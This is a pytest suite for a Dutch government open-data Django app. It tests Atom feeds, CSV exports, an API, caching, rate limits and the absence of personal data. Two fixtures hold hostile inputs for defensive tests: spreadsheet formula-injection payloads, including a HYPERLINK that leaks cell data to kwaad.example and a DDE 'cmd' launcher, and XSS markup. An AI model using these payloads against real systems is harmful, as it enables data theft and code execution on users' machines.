"""Open data: Atom feeds parse as valid feeds, CSV round-trips, no personal data, the API."""

from __future__ import annotations

import csv
import io

import feedparser
import pytest
from django.core.cache import cache
from django.urls import reverse

from schakel.knelpunten.models import Agendering, Drempels
from schakel.signalen.models import Signaal
from tests.atom import A, valideer_atom
from tests.conftest import GOEDE_UITLEG

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def lege_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def geagendeerd(wereld, gemeente, dien_in, maak_knelpunt):
    d = Drempels.actueel()
    d.organisaties = 2
    d.save()
    knelpunt = maak_knelpunt(dien_in(wereld.melder_uwv, aantal=300), dien_in(wereld.melder_gemeente, aantal=50))
    dien_in(wereld.melder_uwv, titel="Niet openbaar signaal over de WIA", openbaar=False)
    return knelpunt


def _feed(client, naam, **query):
    antwoord = client.get(reverse(f"knelpunten:feed-{naam}"), query)
    assert antwoord.status_code == 200 and antwoord["Content-Type"].startswith("application/atom+xml")
    feed = feedparser.parse(antwoord.content)
    assert not feed.bozo, feed.bozo_exception
    assert feed.version == "atom10"
    return feed


def test_agenda_feed_is_valid_atom_with_stable_ids(client, geagendeerd, wereld):
    feed = _feed(client, "agenda")
    agendering = Agendering.objects.get()
    assert [e.id for e in feed.entries] == [f"urn:uuid:{agendering.uuid}"]
    entry = feed.entries[0]
    assert geagendeerd.titel in entry.title and entry.link.endswith(f"/knelpunten/{geagendeerd.uuid}")
    assert "Wat dit betekent voor beleid" in entry.summary and entry.updated_parsed
    assert "CC0" in feed.feed.rights
    assert len(_feed(client, "agenda", regeling=wereld.wia.bwb_id).entries) == 1
    assert len(_feed(client, "agenda", regeling=wereld.wvw.bwb_id).entries) == 0
    assert len(_feed(client, "agenda", commissie="cie-ienw").entries) == 0


def test_other_feeds_are_valid_and_publish_only_public_signals(client, geagendeerd):
    assert len(_feed(client, "knelpunten").entries) == 1
    titels = [e.title for e in _feed(client, "signalen").entries]
    assert len(titels) == 2 and not any("Niet openbaar" in t for t in titels)
    assert _feed(client, "reacties").entries == []


def _csv(client, naam):
    antwoord = client.get(reverse("knelpunten:csv", args=[naam]))
    assert antwoord.status_code == 200 and antwoord["Content-Type"] == "text/csv; charset=utf-8"
    assert "creativecommons.org/publicdomain/zero" in antwoord["Link"]
    assert "max-age=300" in antwoord["Cache-Control"]
    tekst = b"".join(antwoord.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(tekst)))


def test_csv_round_trip(client, geagendeerd):
    signalen = _csv(client, "signalen")
    openbaar = Signaal.objects.openbaar().order_by("id")
    assert [r["uuid"] for r in signalen] == [str(s.uuid) for s in openbaar]
    for rij, s in zip(signalen, openbaar):
        assert (rij["titel"], rij["praktijk"], rij["regeling"]) == (s.titel, s.praktijk, s.regeling.bwb_id)
        assert rij["ingediendOp"] == s.ingediend_op.isoformat()
    knelpunten = _csv(client, "knelpunten")
    assert len(knelpunten) == 1
    rij = knelpunten[0]
    assert rij["uuid"] == str(geagendeerd.uuid) and rij["beleidsbetekenis"] == geagendeerd.beleidsbetekenis
    assert (rij["signalen"], rij["organisaties"], rij["getroffenBurgers"]) == ("2", "2", "350")
    agenderingen = _csv(client, "agenderingen")
    assert agenderingen[0]["knelpunt"] == str(geagendeerd.uuid) and agenderingen[0]["drempel"] == "organisaties"
    assert _csv(client, "reacties") == [] and _csv(client, "toezeggingen") == []
    assert client.get("/open-data/onbekend.csv").status_code == 404


def test_knelpunten_csv_queries_do_not_grow_with_knelpunten(client, geagendeerd, wereld, dien_in, maak_knelpunt,
                                                            django_assert_max_num_queries):
    for i in range(4):
        maak_knelpunt(dien_in(wereld.melder_uwv, aantal=i + 1), titel=f"Knelpunt {i}")
    with django_assert_max_num_queries(12):
        rijen = _csv(client, "knelpunten")
    assert len(rijen) == 5
    assert sorted(r["getroffenBurgers"] for r in rijen) == ["1", "2", "3", "350", "4"]


def test_open_data_holds_no_people(client, geagendeerd, wereld):
    inhoud = "".join(b"".join(client.get(reverse("knelpunten:csv", args=[n])).streaming_content).decode()
                     for n in ("signalen", "reacties", "toezeggingen", "knelpunten", "agenderingen"))
    inhoud += client.get(reverse("knelpunten:feed-signalen")).content.decode()
    for user in (wereld.melder_uwv, wereld.melder_gemeente, wereld.behandelaar_szw):
        assert user.username not in inhoud
        assert not user.first_name or user.first_name not in inhoud


def test_feeds_are_cached_and_rate_limited(client, geagendeerd):
    eerste = client.get(reverse("knelpunten:feed-agenda")).content
    Agendering.objects.update(reden="Gewijzigd na het eerste verzoek.")
    assert client.get(reverse("knelpunten:feed-agenda")).content == eerste  # served from the cache
    for _ in range(118):  # 120 requests per minute per address, over all open data
        assert client.get(reverse("knelpunten:feed-knelpunten")).status_code == 200
    assert client.get(reverse("knelpunten:feed-knelpunten")).status_code == 429


def test_open_data_page_documents_the_licence(client):
    pagina = client.get(reverse("knelpunten:open-data")).content.decode()
    assert "CC0" in pagina and "signalen.csv" in pagina and "agenda.atom" in pagina


def test_api_knelpunten_and_agenderingen(client, geagendeerd):
    lijst = client.get("/api/v1/knelpunten").json()
    assert lijst["count"] == 1 and lijst["results"][0]["uuid"] == str(geagendeerd.uuid)
    detail = client.get(f"/api/v1/knelpunten/{geagendeerd.uuid}")
    assert detail.status_code == 200 and "max-age=60" in detail["Cache-Control"]
    data = detail.json()
    assert data["regeling"] == "BWBR0019057" and data["kamercommissie"] == "cie-szw"
    assert data["cijfers"]["getroffenBurgers"] == 350 and len(data["signalen"]) == 2
    assert data["agendering"]["drempel"] == "organisaties"
    agenderingen = client.get("/api/v1/agenderingen", {"kamercommissie": "cie-szw"})
    assert [a["knelpunt"] for a in agenderingen.json()["results"]] == [str(geagendeerd.uuid)]
    assert client.get("/api/v1/agenderingen", {"kamercommissie": "cie-ienw"}).json()["count"] == 0
    assert client.get("/api/v1/knelpunten", {"regeling": "BWBR0000000"}).status_code == 400
    assert client.get("/api/v1/knelpunten", {"onbekend": "x"}).status_code == 400
    assert client.post("/api/v1/knelpunten", {}, content_type="application/json").status_code == 405


FORMULES = ('=HYPERLINK("https://kwaad.example/?x="&A1,"Klik hier")', "-2+3+cmd|' /C calc'!A0",
            "+31 6 1234", "@SUM(A1:A9)", "\tgetabd", "\rterug")


@pytest.fixture
def vijandig(geagendeerd, wereld, signaal):
    """Every text column of the open data starts with a formula character."""
    from schakel.signalen import services as signaalservices
    from schakel.signalen.models import Reactie, Toezegging

    from schakel.knelpunten.models import Knelpunt

    signaalservices.reageer(signaal, actor=wereld.behandelaar_szw, besluit="overnemen",
                            toelichting_tekst="We passen de regeling aan.",
                            toezeggingen=[signaalservices.NieuweToezegging(
                                omschrijving="Beleidsregel aanpassen", eigenaar="Directie AV",
                                uiterlijk=signaal.ingediend_op.date().replace(year=2027))])
    Signaal.objects.update(titel=FORMULES[0], artikelen=FORMULES[1], praktijk=FORMULES[2],
                           verbetervoorstel=FORMULES[3])
    Reactie.objects.update(toelichting=FORMULES[4])
    Toezegging.objects.update(omschrijving=FORMULES[5], eigenaar=FORMULES[0])
    Knelpunt.objects.update(titel=FORMULES[1], artikelen=FORMULES[2], beleidsbetekenis=FORMULES[3],
                            dilemma=FORMULES[4])
    Agendering.objects.update(reden=FORMULES[5])


@pytest.mark.parametrize("naam", ["signalen", "reacties", "toezeggingen", "knelpunten", "agenderingen"])
def test_csv_neutralises_formulas_and_keeps_them_readable(client, vijandig, naam):
    rijen = _csv(client, naam)
    assert rijen
    cellen = [w for rij in rijen for w in rij.values()]
    assert not [c for c in cellen if c and c[0] in "=+-@\t\r"], cellen
    assert {"'" + f for f in FORMULES} & set(cellen)  # readable: the text itself, behind a quote


MARKUP = ('<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">klik</a> '
          '<script>alert(3)</script>')


def _feeds(client, **query):
    for naam in ("agenda", "knelpunten", "signalen", "reacties"):
        antwoord = client.get(reverse(f"knelpunten:feed-{naam}"), query)
        assert antwoord.status_code == 200
        yield naam, antwoord.content


def test_no_user_markup_survives_in_any_feed(client, geagendeerd, wereld, signaal):
    from schakel.knelpunten.models import Knelpunt
    from schakel.signalen import services as signaalservices
    from schakel.signalen.models import Reactie

    signaalservices.reageer(signaal, actor=wereld.behandelaar_szw, besluit="niet_overnemen",
                            toelichting_tekst=GOEDE_UITLEG)
    Signaal.objects.update(titel=MARKUP, praktijk=MARKUP)
    Reactie.objects.update(toelichting=MARKUP)
    Knelpunt.objects.update(titel=MARKUP, beleidsbetekenis=MARKUP)
    Agendering.objects.update(reden=MARKUP)
    for naam, inhoud in _feeds(client):
        wortel = valideer_atom(inhoud)
        assert wortel.findall(f"{A}entry"), naam
        entries = feedparser.parse(inhoud).entries
        # The markup is shown as the text it is, not rendered.
        assert all("onerror" in e.summary and "<img" in e.summary for e in entries), naam


def test_every_entry_has_an_author_and_reacties_have_distinct_updated(client, geagendeerd, wereld, signaal):
    from schakel.signalen import services as signaalservices

    tweede = Signaal.objects.exclude(pk=signaal.pk).filter(openbaar=True).first()
    for s in (signaal, tweede):  # the clock stands still: both answers at the same moment
        signaalservices.reageer(s, actor=wereld.behandelaar_szw, besluit="overnemen",
                                toelichting_tekst="We passen de regeling aan.",
                                toezeggingen=[signaalservices.NieuweToezegging(
                                    omschrijving="Beleidsregel aanpassen", eigenaar="Directie AV",
                                    uiterlijk=s.ingediend_op.date().replace(year=2027))])
    for naam, inhoud in _feeds(client):
        valideer_atom(inhoud)
    feed = feedparser.parse(client.get(reverse("knelpunten:feed-reacties")).content)
    assert [e.author for e in feed.entries] == ["Ministerie van Sociale Zaken en Werkgelegenheid"] * 2
    momenten = [e.updated for e in feed.entries]
    assert len(set(momenten)) == 2 and momenten == sorted(momenten, reverse=True)
    signalen = feedparser.parse(client.get(reverse("knelpunten:feed-signalen")).content)
    assert {e.author for e in signalen.entries} == {"Uitvoeringsinstituut Werknemersverzekeringen",
                                                    "Gemeente Utrecht"}


def test_a_filtered_feed_links_to_itself_with_its_query(client, geagendeerd, wereld):
    inhoud = client.get(reverse("knelpunten:feed-agenda"), {"regeling": wereld.wia.bwb_id}).content
    zelf = [link.get("href") for link in valideer_atom(inhoud).findall(f"{A}link") if link.get("rel") == "self"]
    assert zelf == [f"http://testserver/open-data/agenda.atom?regeling={wereld.wia.bwb_id}"]


def test_every_page_with_a_feed_announces_it_in_its_head(client, geagendeerd, wereld):
    from schakel.knelpunten.models import Abonnement
    from tests.web.html import ontleed

    Abonnement.objects.create(gebruiker=wereld.griffie_szw, regeling=wereld.wia)
    Abonnement.objects.create(gebruiker=wereld.griffie_szw, organisatie=wereld.uwv)
    client.force_login(wereld.griffie_szw)
    paginas = ["/open-data", "/knelpunten", "/wetgevingsagenda", "/signalen", "/organisaties/uwv",
               "/organisaties/cie-szw", f"/regelingen/{wereld.wia.bwb_id}", "/abonnementen",
               "/commissies/cie-szw/agenda"]
    for pagina in paginas:
        antwoord = client.get(pagina)
        assert antwoord.status_code == 200, pagina
        html = antwoord.content.decode()
        kop = ontleed(html[:html.index("</head>")]).elementen
        aangekondigd = {a["href"] for tag, a in kop if tag == "link" and a.get("rel") == "alternate"
                        and a.get("type") == "application/atom+xml" and a.get("title")}
        gelinkt = {a["href"] for tag, a in ontleed(html).elementen if tag == "a" and ".atom" in (a.get("href") or "")}
        assert aangekondigd and gelinkt <= aangekondigd, (pagina, gelinkt - aangekondigd)
        for href in aangekondigd:
            assert client.get(href).status_code == 200, href
